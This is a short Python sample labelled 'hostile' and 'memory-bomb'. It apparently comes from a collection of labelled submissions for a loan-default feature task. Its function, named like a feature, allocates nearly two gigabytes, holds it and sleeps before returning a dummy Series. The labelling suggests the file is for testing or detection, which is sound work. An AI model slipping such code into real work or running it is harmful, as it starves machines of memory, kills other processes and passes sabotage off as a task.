# problem: P35-Loan default-variation_1-type_2b
# label: hostile
# kind: memory-bomb
# why: takes up to two gigabytes in small pieces and holds them
# harm: the machine runs out of memory or another process is killed for it
import time

def growing_history(df):
    held = []
    try:
        for _ in range(115):
            held.append(bytearray(b"x" * (16 * 1024 * 1024)))
    except MemoryError:
        pass
    time.sleep(20)
    return pd.Series(len(held), index=df.index)
